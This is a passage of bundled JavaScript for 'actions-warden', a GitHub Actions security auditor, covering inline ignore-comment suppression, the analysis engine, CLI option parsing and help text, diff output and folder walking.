var CONTAINERS = new AttachedCache("suppression-containers", attachmentsOf);
function containersOf(file) {
  const cached = CONTAINERS.get(file);
  if (cached) return cached;
  const containers = { steps: [], jobs: [], updates: [], topLevel: [] };
  const addSteps = (steps) => {
    const indexOf2 = /* @__PURE__ */ new Map();
    for (const step of steps) {
      const span = step.nodeSpan;
      if (!span) continue;
      indexOf2.set(step, containers.steps.length);
      containers.steps.push({ span, parent: step.parallel ? indexOf2.get(step.parallel) ?? -1 : -1 });
    }
  };
  let root = null;
  const wide = /* @__PURE__ */ new Set();
  if (file.workflow) {
    root = file.workflow;
    wide.add("jobs");
    for (const job of file.workflow.jobs) {
      containers.jobs.push(job.span);
      addSteps(job.steps);
    }
  } else if (file.action) {
    root = file.action;
    if (file.action.runs.has("steps")) wide.add("runs");
    addSteps(file.action.steps);
  } else if (file.dependabot) {
    root = file.dependabot;
    wide.add("updates");
    for (const update of file.dependabot.updates) if (update.span) containers.updates.push(update.span);
  }
  for (const entry of root?.entries ?? []) if (!wide.has(entry.key)) containers.topLevel.push(entrySpan(entry));
  const byStart = (a, b) => a.start - b.start;
  containers.jobs.sort(byStart);
  containers.updates.sort(byStart);
  containers.topLevel.sort(byStart);
  CONTAINERS.set(file, containers);
  return containers;
}
var holds = (span, offset) => span.start <= offset && offset < Math.max(span.end, span.start + 1);
function lastStartingAtOrBefore(count, startOf, offset) {
  let low = 0;
  let high = count;
  while (low < high) {
    const middle = low + high >> 1;
    if (startOf(middle) <= offset) low = middle + 1;
    else high = middle;
  }
  return low - 1;
}
function holding(spans, offset) {
  const index = lastStartingAtOrBefore(spans.length, (i) => spans[i].start, offset);
  return index >= 0 && holds(spans[index], offset) ? spans[index] : null;
}
function innermostStep(steps, offset) {
  for (let index = lastStartingAtOrBefore(steps.length, (i) => steps[i].span.start, offset); index >= 0; index = steps[index].parent)
    if (holds(steps[index].span, offset)) return steps[index].span;
  return null;
}
function linesOf(file, span) {
  const first = file.lines.lineAt(span.start);
  let end = span.end;
  for (; ; ) {
    while (end > span.start && isBlank(file.text.charCodeAt(end - 1))) end--;
    const line = file.lines.lineAt(end);
    if (line <= first) return { first, last: first };
    const lineStart = file.lines.offset({ line, character: 0 });
    let at = lineStart;
    while (at < end && (file.text[at] === " " || file.text[at] === "	")) at++;
    if (file.text[at] !== "#") return { first, last: line };
    end = lineStart;
  }
}
var isBlank = (code) => code === 32 || code === 9 || code === 10 || code === 13;
function suppressionLines(file, span) {
  const own = linesOf(file, span);
  const containers = containersOf(file);
  const container = innermostStep(containers.steps, span.start) ?? holding(containers.jobs, span.start) ?? holding(containers.updates, span.start) ?? holding(containers.topLevel, span.start);
  if (!container) return own;
  const lines = linesOf(file, container);
  return { first: Math.min(own.first, lines.first), last: Math.max(own.last, lines.last) };
}

// server/src/suppressions/inline-ignores.ts
var IGNORE_RE = /(?:^|\s)#\s*(warden|zizmor)\s*:\s*ignore\[([^\]]*)\]/g;
var cache2 = new AttachedCache("inline-ignores", attachmentsOf);
function ignoreComments(file) {
  const cached = cache2.get(file);
  if (cached) return cached;
  const found = [];
  if (file.text.includes("ignore[")) {
    const scalarSpans = [];
    walkScalars(file.doc?.contents ?? null, (scalar) => {
      if (!scalar.range || scalar.type === "PLAIN") return;
      let start = scalar.range[0];
      if (scalar.type === "BLOCK_LITERAL" || scalar.type === "BLOCK_FOLDED") start = file.lines.lineContentEnd(file.lines.lineAt(start));
      scalarSpans.push({ start, end: scalar.range[1] });
    });
    const insideScalar = (offset) => scalarSpans.some((span) => offset > span.start && offset < span.end);
    IGNORE_RE.lastIndex = 0;
    for (let match = IGNORE_RE.exec(file.text); match; match = IGNORE_RE.exec(file.text)) {
      const hash = match.index + match[0].indexOf("#");
      if (insideScalar(hash)) continue;
      const rules = match[2].split(",").map((rule) => rule.trim()).filter(Boolean);
      const end = match.index + match[0].length;
      found.push({
        line: file.lines.lineAt(hash),
        span: { start: hash, end },
        tool: match[1],
        rules,
        listSpan: { start: end - 1 - match[2].length, end: end - 1 }
      });
    }
  }
  cache2.set(file, found);
  return found;
}
var ENGINE_RULES = new Set(BUILT_IN_RULES.filter((rule) => rule.reportedOn === "actions-file").map((rule) => rule.id));
var IgnoreTracker = class {
  constructor(file) {
    this.file = file;
    this.comments = ignoreComments(file);
    this.comments.forEach((comment, index) => {
      for (const rule of new Set(comment.rules)) {
        let list = this.byRule.get(rule);
        if (!list) this.byRule.set(rule, list = []);
        list.push(index);
      }
    });
  }
  file;
  comments;
  /** Per rule id: the indexes of the comments naming it, in line order. */
  byRule = /* @__PURE__ */ new Map();
  /** Per rule id: the line ranges of the findings of that rule that a comment suppressed. */
  covered = /* @__PURE__ */ new Map();
  /** The comment naming the finding's rule in its suppression span nearest to the finding's first line, or null. */
  suppressing(finding) {
    const list = this.byRule.get(finding.ruleId);
    if (!list) return null;
    const range = suppressionLines(this.file, finding.span);
    const line = this.file.lines.lineAt(finding.span.start);
    let low = 0;
    let high = list.length;
    while (low < high) {
      const middle = low + high >> 1;
      if (this.comments[list[middle]].line < line) low = middle + 1;
      else high = middle;
    }
    const after = low < list.length ? this.comments[list[low]] : null;
    const before = low > 0 ? this.comments[list[low - 1]] : null;
    const inRange = (comment) => comment !== null && comment.line >= range.first && comment.line <= range.last;
    const nearest = inRange(after) && (!inRange(before) || after.line - line <= line - before.line) ? after : inRange(before) ? before : null;
    if (!nearest) return null;
    let ranges = this.covered.get(finding.ruleId);
    if (!ranges) this.covered.set(finding.ruleId, ranges = []);
    ranges.push(range);
    return nearest;
  }
  suppresses(finding) {
    return this.suppressing(finding) !== null;
  }
  /** True when the comment at `index` suppressed at least one finding of `rule`. */
  used(index, rule) {
    const line = this.comments[index].line;
    return this.coverage(rule)(line);
  }
  coverages = /* @__PURE__ */ new Map();
  /** "Does a covered range of `rule` hold this line?", from the ranges sorted by first line with a running maximum of last lines. */
  coverage(rule) {
    let test = this.coverages.get(rule);
    if (test) return test;
    const ranges = [...this.covered.get(rule) ?? []].sort((a, b) => a.first - b.first);
    const reach = [];
    for (const range of ranges) reach.push(Math.max(range.last, reach.length > 0 ? reach[reach.length - 1] : -1));
    test = (line) => {
      let low = 0;
      let high = ranges.length;
      while (low < high) {
        const middle = low + high >> 1;
        if (ranges[middle].first <= line) low = middle + 1;
        else high = middle;
      }
      return low > 0 && reach[low - 1] >= line;
    };
    this.coverages.set(rule, test);
    return test;
  }
};
function unusedIgnores(file, tracker, ran) {
  const reports = [];
  tracker.comments.forEach((comment, index) => {
    if (comment.tool !== "warden") return;
    const unused = [];
    const unknown = [];
    for (const rule of new Set(comment.rules)) {
      if (rule === UNUSED_IGNORE_RULE || tracker.used(index, rule)) continue;
      if (ran.has(rule)) unused.push(rule);
      else if (comment.tool === "warden" && !ENGINE_RULES.has(rule) && !ruleById(rule)) unknown.push(rule);
    }
    if (unused.length === 0 && unknown.length === 0) return;
    const stale = [...unused, ...unknown];
    const parts = [];
    if (unused.length > 0)
      parts.push(`no ${unused.map((rule) => `\`${rule}\``).join(" or ")} finding in the step, job or block of this line`);
    if (unknown.length > 0)
      parts.push(
        `${unknown.map((rule) => `\`${rule}\``).join(", ")} ${unknown.length === 1 ? "is not a rule" : "are not rules"} of Actions Warden`
      );
    const kept = comment.rules.filter((rule) => !stale.includes(rule));
    reports.push({
      span: comment.span,
      message: `This ignore comment suppresses nothing for ${stale.map((rule) => `\`${rule}\``).join(", ")}: ${parts.join("; ")}.`,
      fixes: [
        {
          title: kept.length === 0 ? "Remove the unused ignore comment" : `Remove ${stale.map((rule) => `\`${rule}\``).join(", ")} from the ignore comment`,
          isPreferred: true,
          safety: "safe",
          edits: [kept.length === 0 ? removeComment(file, comment) : { span: comment.listSpan, newText: kept.join(",") }]
        }
      ]
    });
  });
  return reports;
}
function removeComment(file, comment) {
  const lineStart = file.lines.offset({ line: comment.line, character: 0 });
  const contentEnd = file.lines.lineContentEnd(comment.line);
  let start = comment.span.start;
  while (start > lineStart && (file.text[start - 1] === " " || file.text[start - 1] === "	")) start--;
  if (start === lineStart) {
    const nextLine = comment.line + 1 < file.lines.lineCount ? file.lines.offset({ line: comment.line + 1, character: 0 }) : contentEnd;
    return { span: { start: lineStart, end: nextLine }, newText: "" };
  }
  return { span: { start, end: contentEnd }, newText: "" };
}

// server/src/engine.ts
var DEFAULT_ANALYSIS_OPTIONS = {
  persona: "regular",
  minSeverity: "informational",
  minConfidence: "low",
  disabledRules: /* @__PURE__ */ new Set()
};
var NO_CONFIG = Object.freeze({});
function analysisViews(file, options) {
  const given = options.views ?? {};
  return {
    online: given.online ?? onlineView(snapshotOf(file)),
    workspace: given.workspace ?? NO_VIEWS.workspace,
    dependencies: given.dependencies ?? NO_VIEWS.dependencies
  };
}
var NOT_DECLARED = unavailable("not-declared");
function declaredViews(rule, views) {
  const reads = rule.reads ?? [];
  return {
    online: rule.online || reads.includes("online") ? views.online : NOT_DECLARED,
    workspace: reads.includes("workspace") ? views.workspace : NOT_DECLARED,
    dependencies: reads.includes("dependencies") ? views.dependencies : NOT_DECLARED
  };
}
function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
  const steps = analysisSteps(file, options);
  for (let step = steps.next(); ; step = steps.next()) if (step.done) return step.value;
}
function* analysisSteps(file, options) {
  if (file.kind === "unknown") return [];
  const findings = [];
  const toFinding = (rule, report2) => {
    const finding = buildFinding(rule, report2);
    return typeof report2.fixes === "function" ? withLazyFixes(finding, report2.fixes) : finding;
  };
  const buildFinding = (rule, report2) => ({
    ruleId: rule.id,
    severity: report2.severity ?? rule.severity,
    confidence: report2.confidence ?? rule.confidence,
    persona: report2.persona ?? rule.persona,
    message: report2.message,
    span: report2.span,
    range: file.lines.range(report2.span),
    related: (report2.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
    fixes: typeof report2.fixes === "function" ? [] : report2.fixes ?? []
  });
  for (const problem of file.problems) {
    if (problem.code === INTERNAL_ERROR_RULE) {
      findings.push(toFinding(builtIn(INTERNAL_ERROR_RULE), { span: problem.span, message: problem.message }));
      continue;
    }
    findings.push(
      toFinding(builtIn(SYNTAX_ERROR_RULE), {
        span: problem.span,
        message: problem.code === "file-too-large" || problem.code === "too-deeply-nested" ? problem.message : `YAML: ${problem.message}`
      })
    );
  }
  const views = analysisViews(file, options);
  let current = null;
  const context = {
    file,
    config: NO_CONFIG,
    ...NO_VIEWS,
    report: (report2) => {
      if (current) findings.push(toFinding(current, report2));
    }
  };
  for (const rule of options.rules ?? RULES) {
    if (!rule.kinds.includes(file.kind) || options.disabledRules.has(rule.id)) continue;
    if (rule.online && !views.online.available) continue;
    current = rule;
    context.config = options.ruleConfig?.[rule.id] ?? NO_CONFIG;
    Object.assign(context, declaredViews(rule, views));
    try {
      rule.check(context);
    } catch (error) {
      findings.push(
        toFinding(builtIn(INTERNAL_ERROR_RULE), {
          span: { start: 0, end: 0 },
          message: `Rule ${rule.id} failed on this file: ${error instanceof Error ? error.message : String(error)}`
        })
      );
    }
    current = null;
    yield;
  }
  current = null;
  const adjusted = options.adjust ? findings.map(options.adjust).filter((finding) => finding !== null) : findings;
  const ignores = new IgnoreTracker(file);
  const suppressed = [];
  const hide = (finding) => {
    if (isSuppressed(finding)) {
      if (options.keepSuppressed) suppressed.push(finding);
      return true;
    }
    if (!ignores.suppresses(finding)) return false;
    if (options.keepSuppressed) suppressed.push(Object.assign(finding, { suppression: inlineSuppression(file, ignores, finding) }));
    return true;
  };
  const kept = adjusted.filter((finding) => !hide(finding));
  if (!options.disabledRules.has(UNUSED_IGNORE_RULE)) {
    const ran = new Set(
      (options.rules ?? RULES).filter((rule) => rule.kinds.includes(file.kind) && !options.disabledRules.has(rule.id)).map((rule) => rule.id)
    );
    for (const report2 of unusedIgnores(file, ignores, ran)) {
      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report2);
      const final = options.adjust ? options.adjust(finding) : finding;
      if (final && !hide(final)) kept.push(final);
    }
  }
  if (suppressed.length > 0) kept.push(...suppressed);
  const dead = deadRegions(file);
  const live = dead.length === 0 ? kept : kept.filter((finding) => builtInRule(finding.ruleId) || !insideDeadRegion(finding.span, dead));
  return live.filter((finding) => isShown(finding, options)).sort(compareFindings);
}
var MAX_JUSTIFICATION_LENGTH = 500;
function inlineSuppression(file, ignores, finding) {
  const comment = ignores.suppressing(finding);
  if (!comment) return { kind: "inSource" };
  const justification = file.text.slice(comment.span.end, file.lines.lineContentEnd(comment.line)).trim().slice(0, MAX_JUSTIFICATION_LENGTH);
  return justification ? { kind: "inSource", justification } : { kind: "inSource" };
}
function isShown(finding, options) {
  if (builtInRule(finding.ruleId)?.alwaysShown) return true;
  return PERSONAS.indexOf(finding.persona) <= PERSONAS.indexOf(options.persona) && SEVERITIES.indexOf(finding.severity) >= SEVERITIES.indexOf(options.minSeverity) && CONFIDENCES.indexOf(finding.confidence) >= CONFIDENCES.indexOf(options.minConfidence);
}
function compareFindings(a, b) {
  return a.span.start - b.span.start || a.span.end - b.span.end || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) || (a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
}
var COMPUTE_FIXES = /* @__PURE__ */ Symbol("actions-warden.compute-fixes");
function readLazyFixes() {
  const compute = this[COMPUTE_FIXES];
  let fixes = [];
  if (compute) {
    try {
      fixes = compute();
    } catch {
      fixes = [];
    }
  }
  writeLazyFixes.call(this, fixes);
  return fixes;
}
function writeLazyFixes(fixes) {
  Object.defineProperty(this, COMPUTE_FIXES, { value: void 0 });
  Object.defineProperty(this, "fixes", { value: fixes, writable: true, enumerable: true, configurable: true });
}
function settleLazyFixes(findings, mode) {
  for (const finding of findings) {
    if (!finding[COMPUTE_FIXES]) continue;
    if (mode === "compute") void finding.fixes;
    else writeLazyFixes.call(finding, []);
  }
}
function withLazyFixes(finding, compute) {
  Object.defineProperty(finding, COMPUTE_FIXES, { value: compute, writable: false, enumerable: false, configurable: true });
  Object.defineProperty(finding, "fixes", { configurable: true, enumerable: true, get: readLazyFixes, set: writeLazyFixes });
  return finding;
}

// server/src/fixes/fix-all.ts
function fixAllEdits(findings, accept = (fix) => fix.isPreferred && fix.safety === "safe") {
  const taken = [];
  const seen = /* @__PURE__ */ new Set();
  for (const finding of findings) {
    const fix = finding.fixes.find(accept);
    if (!fix) continue;
    const key = JSON.stringify(fix.edits);
    if (seen.has(key)) continue;
    const overlaps = fix.edits.some(
      (edit) => taken.some(
        (other) => edit.span.start < other.span.end && other.span.start < edit.span.end || edit.span.start === other.span.start && edit.span.end === other.span.end
      )
    );
    if (overlaps) continue;
    seen.add(key);
    taken.push(...fix.edits);
  }
  return taken;
}

// package.json
var version = "0.1.0";

// server/src/version.ts
var VERSION = version;
var TOOL_NAME = "actions-warden";

// server/src/cli/args.ts
var FORMATS = ["text", "json", "sarif", "github"];
var FIX_MODES = ["safe", "all"];
var COLLECT_MODES = ["default", "all"];
var EXIT_CODE_MODES = ["default", "severity"];
var DEFAULT_CLI_OPTIONS = {
  paths: [],
  pathsBeforeDashDash: 0,
  format: "text",
  persona: "regular",
  minSeverity: "informational",
  minConfidence: "low",
  offline: false,
  online: false,
  collect: "default",
  noIgnores: false,
  exitCodes: "default",
  orgs: [],
  includeForks: false,
  explicit: [],
  noConfig: false,
  dryRun: false,
  codeFrame: true,
  color: true,
  forceColor: false,
  help: false,
  version: false
};
var VALUE_OPTIONS2 = {
  "--format": { key: "format", allowed: FORMATS },
  "-f": { key: "format", allowed: FORMATS },
  "--persona": { key: "persona", allowed: PERSONAS },
  "--min-severity": { key: "minSeverity", allowed: SEVERITIES },
  "--min-confidence": { key: "minConfidence", allowed: CONFIDENCES },
  "--config": { key: "config", allowed: null },
  "--github-server-url": { key: "githubServerUrl", allowed: null },
  "--github-api-url": { key: "githubApiUrl", allowed: null },
  "--collect": { key: "collect", allowed: COLLECT_MODES },
  "--cache-dir": { key: "cacheDir", allowed: null },
  "--exit-codes": { key: "exitCodes", allowed: EXIT_CODE_MODES },
  "--org": { key: "org", allowed: null },
  "--sarif-dir": { key: "sarifDir", allowed: null }
};
var FLAG_OPTIONS = {
  "--offline": (options) => {
    options.offline = true;
  },
  "--online": (options) => {
    options.online = true;
  },
  "--no-ignores": (options) => {
    options.noIgnores = true;
  },
  "--no-config": (options) => {
    options.noConfig = true;
  },
  "--include-forks": (options) => {
    options.includeForks = true;
  },
  "--dry-run": (options) => {
    options.dryRun = true;
  },
  "--no-code-frame": (options) => {
    options.codeFrame = false;
  },
  "--no-color": (options) => {
    options.color = false;
    options.forceColor = false;
  },
  "--color": (options) => {
    options.color = true;
    options.forceColor = true;
  },
  "--help": (options) => {
    options.help = true;
  },
  "-h": (options) => {
    options.help = true;
  },
  "--version": (options) => {
    options.version = true;
  },
  "-V": (options) => {
    options.version = true;
  }
};
function parseArgs(argv) {
  const options = { ...DEFAULT_CLI_OPTIONS, paths: [], orgs: [], explicit: [] };
  let onlyPaths = false;
  for (let i = 0; i < argv.length; i++) {
    const arg = argv[i];
    if (onlyPaths || arg === "-" || !arg.startsWith("-")) {
      if (arg === "") return { ok: false, error: "empty path argument" };
      options.paths.push(arg);
      continue;
    }
    if (arg === "--") {
      if (!onlyPaths) options.pathsBeforeDashDash = options.paths.length;
      onlyPaths = true;
      continue;
    }
    const eq = arg.startsWith("--") ? arg.indexOf("=") : -1;
    const name = eq === -1 ? arg : arg.slice(0, eq);
    if (name === "--fix") {
      const mode = eq === -1 ? "safe" : arg.slice(eq + 1);
      if (!FIX_MODES.includes(mode))
        return { ok: false, error: `invalid value '${mode}' for --fix: expected one of ${FIX_MODES.join(", ")}` };
      options.fix = mode;
      continue;
    }
    const flag = FLAG_OPTIONS[name];
    if (flag) {
      if (eq !== -1) return { ok: false, error: `option ${name} takes no value` };
      flag(options);
      continue;
    }
    const valued = VALUE_OPTIONS2[name];
    if (!valued) return { ok: false, error: `unknown option ${name}${suggestion(name)}` };
    let value;
    if (eq !== -1) {
      value = arg.slice(eq + 1);
    } else {
      if (i + 1 >= argv.length)
        return { ok: false, error: `option ${name} needs a value${valued.allowed ? `: one of ${valued.allowed.join(", ")}` : ""}` };
      value = argv[++i];
    }
    const isUrl = valued.key === "githubServerUrl" || valued.key === "githubApiUrl";
    if (valued.allowed ? !valued.allowed.includes(value) : value === "") {
      const close = valued.allowed ? closest2(value, valued.allowed) : void 0;
      return {
        ok: false,
        error: `invalid value '${isUrl ? displayUrl(value) : value}' for ${name}${valued.allowed ? `: expected one of ${valued.allowed.join(", ")}${close ? ` (did you mean ${close}?)` : ""}` : ""}`
      };
    }
    if (isUrl && !/^https?:\/\/\S+$/.test(value)) {
      return { ok: false, error: `invalid value '${displayUrl(value)}' for ${name}: expected an http(s) URL` };
    }
    if (isUrl && hasUrlCredentials(value)) {
      return {
        ok: false,
        error: `invalid value '${displayUrl(value)}' for ${name}: credentials in the URL are refused; give the token in GITHUB_TOKEN or GH_TOKEN`
      };
    }
    if (valued.key === "org") {
      if (!isValidRepoName(value, "x"))
        return {
          ok: false,
          error: `invalid value '${value}' for --org: an organisation or user name is 1-39 letters, digits or hyphens, not starting with a hyphen`
        };
      if (!options.orgs.includes(value)) options.orgs.push(value);
      continue;
    }
    options[valued.key] = value;
    if (!options.explicit.includes(valued.key)) options.explicit.push(valued.key);
  }
  if (!onlyPaths) options.pathsBeforeDashDash = options.paths.length;
  if (options.dryRun && !options.fix) return { ok: false, error: "--dry-run needs --fix" };
  if (options.config !== void 0 && options.noConfig) return { ok: false, error: "--config and --no-config cannot be used together" };
  if (options.includeForks && options.orgs.length === 0) return { ok: false, error: "--include-forks needs --org" };
  if (options.fix && options.orgs.length > 0)
    return { ok: false, error: "--fix cannot be used with --org: a repository scanned through the API is not on disk" };
  return { ok: true, options };
}
function suggestion(name) {
  const known = [...Object.keys(VALUE_OPTIONS2), ...Object.keys(FLAG_OPTIONS), "--fix"].filter((option) => option.startsWith("--"));
  const bare = name.replace(/^-+/, "");
  const prefixed = bare.length >= 2 ? known.filter((option) => option.startsWith(`--${bare}`)) : [];
  if (prefixed.length === 1) return ` (did you mean ${prefixed[0]}?)`;
  const close = closest2(
    bare,
    known.map((option) => option.slice(2))
  );
  return close ? ` (did you mean --${close}?)` : "";
}
function closest2(input2, candidates) {
  if (input2.length === 0 || input2.length > 64) return void 0;
  let best;
  let bestDistance = Infinity;
  for (const candidate of candidates) {
    const distance = editDistance(input2, candidate, { swaps: true });
    if (distance < bestDistance) {
      best = candidate;
      bestDistance = distance;
    }
  }
  return best !== void 0 && bestDistance <= Math.max(1, Math.floor(best.length / 3)) ? best : void 0;
}
var HELP_TEXT = `Usage: ${TOOL_NAME} [options] [paths...]
       ${TOOL_NAME} [options] owner/repo[@ref]... | --org owner

Audits GitHub Actions workflows, action metadata (action.yml) and Dependabot
files for security problems.

A folder is searched recursively (skipping node_modules, .git and what its
.gitignore files name) for .github/workflows/*.yml|yaml, action.yml|yaml and
.github/dependabot.yml|yaml.
A file named explicitly is analysed as the kind its name says (a file named
dependabot.yml|yaml is a Dependabot file wherever it is); when its name says
nothing, its top-level keys decide (jobs/on, runs or updates), and a file with
none of them is reported as a syntax-error. With no paths, the current
directory is searched. "-" reads a workflow from standard input.

An argument that exists on disk is a path. Otherwise owner/repo or
owner/repo@ref (a branch, tag or commit; default: the default branch) scans
that repository through the GitHub API without cloning it, as a folder scan
would; paths are shown as owner/repo@<commit>:<path>. Needs the network.
Arguments after -- are always paths.

Input:
      --collect <default|all>
                             default: leave out what .gitignore files in the
                             searched folders name (root and nested, with !,
                             dir/, /anchored and ** patterns); all: every file
                             found. node_modules and .git are always skipped,
                             and files named explicitly are always analysed
      --config <file>        Use this configuration file for every input
      --no-config            Use no configuration file
      --org <owner>          Scan every repository of this organisation (or
                             user), archived ones and forks left out;
                             repeatable
      --include-forks        With --org: scan forks too
      --sarif-dir <dir>      Also write one SARIF file per scanned repository
                             into <dir> (owner__repo.sarif)

Output:
  -f, --format <text|json|sarif|github>
                             Output format (default: text). sarif is SARIF
                             2.1.0 for code scanning (ignored findings are
                             marked suppressed); github prints workflow
                             command annotations (::error file=...::)
      --no-color             Never colour the text output or link rule ids
                             (also: NO_COLOR=1)
      --color                Colour the text output even when not a terminal
      --no-code-frame        No source excerpt under each finding on a terminal
      --exit-codes <default|severity>
                             default: 0 / 1 / 2 as below; severity: 11, 12, 13
                             or 14 when the highest severity shown is
                             informational, low, medium or high

Rules:
      --persona <regular|pedantic|auditor>
                             Which findings to show; each includes the previous
                             (default: regular)
      --min-severity <informational|low|medium|high>
                             Hide findings below this severity; it is also the
                             threshold for the exit code (default:
                             informational)
      --min-confidence <low|medium|high>
                             Hide findings below this confidence (default: low)
      --no-ignores           Also report what inline ignore comments and the
                             configuration's rules.<id>.ignore hide (audits)
      --fix[=safe|all]       Apply the preferred fixes in place (safe: only
                             those that never change behaviour, the default;
                             all: also the unsafe ones), then report what is
                             left. Text output marks them: [fix] for --fix,
                             [fix: --fix=all] for the unsafe ones
      --dry-run              With --fix: print a unified diff, change nothing

Online (off unless --online, a token or a host flag is given):
      --online               Resolve tags and commits on GitHub (online rules,
                             advisories, pins for --fix). Also turned on by a
                             token in GITHUB_TOKEN or GH_TOKEN, or a host flag
      --offline              Make no network request at all (wins over the rest)
      --github-server-url <url>, --github-api-url <url>
                             GitHub Enterprise Server addresses; with only the
                             server URL, the API is <url>/api/v3. Otherwise
                             GITHUB_SERVER_URL / GITHUB_API_URL, GH_HOST, then
                             github.server-url / github.api-url in
                             ~/.config/actions-warden/config.yml decide. A
                             repository's configuration never chooses a host
      --cache-dir <dir>      Cache of online answers (default:
                             $XDG_CACHE_HOME/actions-warden, else
                             ~/.cache/actions-warden)

Other:
  -h, --help                 Show this help
  -V, --version              Show the version

Configuration: .github/actions-warden.yml (or actions-warden.yml) is looked up
from each input towards its repository root; where there is none, zizmor.yml
or .github/zizmor.yml is honoured. Command-line options win over the file.

Exit status:
  0  nothing at or above the threshold was found
  1  findings at or above the threshold were found
  2  usage error or I/O error (unknown option, missing path, unreadable file)
  11-14  with --exit-codes severity, instead of 1: the highest severity shown
         (11 informational, 12 low, 13 medium, 14 high)
`;

// server/src/cli/diff.ts
var CONTEXT = 3;
var MAX_CELLS = 4e6;
function splitLines2(text) {
  if (text === "") return [];
  const lines = text.split("\n");
  if (lines[lines.length - 1] === "") lines.pop();
  return lines;
}
function diffLine(kind, line) {
  const cr = line.endsWith("\r");
  const body = cr ? line.slice(0, -1) : line;
  const escaped = kind === " " ? escapeLineStart(body) : escapeText(body);
  return `${kind}${escaped}${cr ? "\r" : ""}`;
}
function unifiedDiffReport(oldText, newText, oldName, newName) {
  if (oldText === newText) return { text: "", escaped: false };
  const a = splitLines2(oldText);
  const b = splitLines2(newText);
  const ops = diffLines(a, b);
  const oldNoEol = oldText !== "" && !oldText.endsWith("\n");
  const newNoEol = newText !== "" && !newText.endsWith("\n");
  const out = [`--- ${escapeText(oldName)}`, `+++ ${escapeText(newName)}`];
  let escaped = out[0] !== `--- ${oldName}` || out[1] !== `+++ ${newName}`;
  let i = 0;
  while (i < ops.length) {
    while (i < ops.length && ops[i].kind === " ") i++;
    if (i >= ops.length) break;
    let start = Math.max(0, i - CONTEXT);
    let end = i;
    for (; ; ) {
      while (end < ops.length && ops[end].kind !== " ") end++;
      let next = end;
      while (next < ops.length && ops[next].kind === " ") next++;
      if (next < ops.length && next - end <= 2 * CONTEXT) end = next;
      else {
        end = Math.min(ops.length, end + CONTEXT);
        break;
      }
    }
    let oldStart = 1;
    let newStart = 1;
    for (let k = 0; k < start; k++) {
      if (ops[k].kind !== "+") oldStart++;
      if (ops[k].kind !== "-") newStart++;
    }
    const hunk = ops.slice(start, end);
    const oldCount = hunk.filter((op) => op.kind !== "+").length;
    const newCount = hunk.filter((op) => op.kind !== "-").length;
    out.push(`@@ -${oldCount === 0 ? oldStart - 1 : oldStart},${oldCount} +${newCount === 0 ? newStart - 1 : newStart},${newCount} @@`);
    let oldSeen = oldStart - 1;
    let newSeen = newStart - 1;
    for (const op of hunk) {
      const shown = diffLine(op.kind, op.line);
      if (!escaped && shown !== op.kind + op.line) escaped = true;
      out.push(shown);
      if (op.kind !== "+") oldSeen++;
      if (op.kind !== "-") newSeen++;
      const lastOld = op.kind !== "+" && oldSeen === a.length && oldNoEol;
      const lastNew = op.kind !== "-" && newSeen === b.length && newNoEol;
      if (op.kind === "-" && lastOld || op.kind === "+" && lastNew || op.kind === " " && (lastOld || lastNew))
        out.push("\\ No newline at end of file");
    }
    i = end;
    start = end;
  }
  return { text: out.join("\n") + "\n", escaped };
}
function diffLines(a, b) {
  let head = 0;
  while (head < a.length && head < b.length && a[head] === b[head]) head++;
  let tail = 0;
  while (tail < a.length - head && tail < b.length - head && a[a.length - 1 - tail] === b[b.length - 1 - tail]) tail++;
  const midA = a.slice(head, a.length - tail);
  const midB = b.slice(head, b.length - tail);
  const ops = a.slice(0, head).map((line) => ({ kind: " ", line }));
  const n = midA.length;
  const m = midB.length;
  if ((n + 1) * (m + 1) > MAX_CELLS) {
    for (const line of midA) ops.push({ kind: "-", line });
    for (const line of midB) ops.push({ kind: "+", line });
  } else {
    const width = m + 1;
    const lcs = new Uint32Array((n + 1) * width);
    for (let i2 = n - 1; i2 >= 0; i2--) {
      for (let j2 = m - 1; j2 >= 0; j2--) {
        lcs[i2 * width + j2] = midA[i2] === midB[j2] ? lcs[(i2 + 1) * width + j2 + 1] + 1 : Math.max(lcs[(i2 + 1) * width + j2], lcs[i2 * width + j2 + 1]);
      }
    }
    let i = 0;
    let j = 0;
    while (i < n && j < m) {
      if (midA[i] === midB[j]) {
        ops.push({ kind: " ", line: midA[i] });
        i++;
        j++;
      } else if (lcs[(i + 1) * width + j] >= lcs[i * width + j + 1]) ops.push({ kind: "-", line: midA[i++] });
      else ops.push({ kind: "+", line: midB[j++] });
    }
    while (i < n) ops.push({ kind: "-", line: midA[i++] });
    while (j < m) ops.push({ kind: "+", line: midB[j++] });
  }
  for (const line of a.slice(a.length - tail)) ops.push({ kind: " ", line });
  return ops;
}

// server/src/cli/discover.ts
var import_node_fs5 = require("node:fs");
var import_node_path5 = require("node:path");

// server/src/files/walk.ts
var import_node_fs3 = require("node:fs");
var import_node_path3 = require("node:path");
var SKIPPED_DIRECTORIES = /* @__PURE__ */ new Set(["node_modules", ".git"]);
function walkFolder(root, options) {
  const result = { realRoot: "", files: [], skipped: [], errors: [], truncated: false };
  try {
    result.realRoot = (0, import_node_fs3.realpathSync)(root);
  } catch (error) {
    result.errors.push({ path: root, error });
    return result;
  }
  const realRoot = result.realRoot;
  const maxFiles = options.maxFiles ?? Infinity;
  const maxDepth = options.maxDepth ?? Infinity;
  const visited = options.visited ?? /* @__PURE__ */ new Set();
  const seenFiles = /* @__PURE__ */ new Set();
  const linkedFiles = [];
  const stack = [{ path: root, depth: 0 }];
  const linked = [];
  const addFile = (path, real) => {
    if (seenFiles.has(real)) return true;
    if (result.files.length >= maxFiles) {
      result.truncated = true;
      return false;
    }
    seenFiles.add(real);
    result.files.push(path);
    return true;
  };
  while (stack.length > 0 || linked.length > 0) {
    const { path: dir, depth } = stack.length > 0 ? stack.pop() : linked.shift();
    let real;
    let key;
    try {
      real = (0, import_node_fs3.realpathSync)(dir);
      const stats = (0, import_node_fs3.statSync)(real);
      key = `${stats.dev}:${stats.ino}`;
    } catch (error) {
      result.errors.push({ path: dir, error });
      continue;
    }
    if (!isInside(realRoot, real)) {
      result.skipped.push(dir);
      continue;
    }
    if (visited.has(key)) continue;
    visited.add(key);
    let entries;
    try {
      entries = (0, import_node_fs3.readdirSync)(dir, { withFileTypes: true });
    } catch (error) {
      result.errors.push({ path: dir, error });
      continue;
    }
    const subdirectories = [];
